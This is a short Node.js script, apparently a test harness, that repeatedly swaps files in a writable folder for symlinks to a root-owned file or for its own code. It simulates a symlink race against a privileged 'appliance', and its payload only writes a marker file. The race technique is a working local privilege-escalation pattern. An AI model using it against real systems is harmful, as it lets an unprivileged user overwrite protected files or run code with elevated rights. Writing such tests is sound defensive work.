// Another user in a folder that he may write: puts, over and over, links to a file of root's and code of his own in place
// of the files of the appliance. The code leaves a marker where it runs.
const { renameSync, rmSync, symlinkSync, writeFileSync } = require('node:fs')
const { join } = require('node:path')

const { folder, victim, marker, names } = JSON.parse(process.argv[1])
const CODE = `require('node:fs').writeFileSync(${JSON.stringify(marker)}, 'it ran')\n`
const own = join(folder, 'own')
writeFileSync(own, CODE, { mode: 0o666 })

let turn = 0
function swap() {
  for (const name of names) {
    const made = join(folder, `.${name}.made`)
    try {
      rmSync(made, { force: true })
      if (turn % 3 === 2) writeFileSync(made, CODE)
      else symlinkSync(turn % 3 ? victim : own, made)
      renameSync(made, join(folder, name))
    } catch {
      // The appliance was faster.
    }
  }
  if (turn++ === 0) console.log('ready')
  setTimeout(swap, 1)
}
swap()
